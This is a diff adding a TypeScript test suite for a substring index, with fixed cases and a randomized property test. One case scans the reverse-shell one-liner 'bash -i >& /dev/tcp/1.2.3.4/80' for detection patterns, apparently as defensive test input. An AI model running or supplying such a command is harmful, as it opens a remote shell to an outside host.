@@ -1,0 +1,41 @@
+import fc from 'fast-check';
+import { SubstringIndex } from './substrings.js';
+
+function found(patterns: string[], text: string): string[] {
+  const index = new SubstringIndex<string>();
+  for (const pattern of patterns) index.add(pattern, pattern);
+  index.build();
+  const seen = new Set<string>();
+  index.scan(text, (items) => items.forEach((item) => seen.add(item)));
+  return [...seen].sort();
+}
+
+describe('SubstringIndex', () => {
+  it('finds overlapping patterns and patterns inside others', () => {
+    expect(found(['he', 'she', 'his', 'hers'], 'ushers')).toEqual(['he', 'hers', 'she']);
+    expect(found(['a', 'aa', 'aaa'], 'aa')).toEqual(['a', 'aa']);
+    expect(found(['/dev/tcp/', '>&'], 'bash -i >& /dev/tcp/1.2.3.4/80')).toEqual([
+      '/dev/tcp/',
+      '>&',
+    ]);
+    expect(found(['', 'x'], 'abc')).toEqual(['']);
+  });
+
+  it('agrees with String.includes on random patterns and texts', () => {
+    const alphabet = fc.constantFrom('a', 'b', 'c', '/', 'é', '😀');
+    const word = fc.array(alphabet, { maxLength: 5 }).map((chars) => chars.join(''));
+    fc.assert(
+      fc.property(
+        fc.array(word, { maxLength: 8 }),
+        fc.array(alphabet, { maxLength: 30 }),
+        (patterns, chars) => {
+          const text = chars.join('');
+          expect(found(patterns, text)).toEqual(
+            [...new Set(patterns.filter((p) => text.includes(p)))].sort(),
+          );
+        },
+      ),
+      { numRuns: 2000 },
+    );
+  });
+});
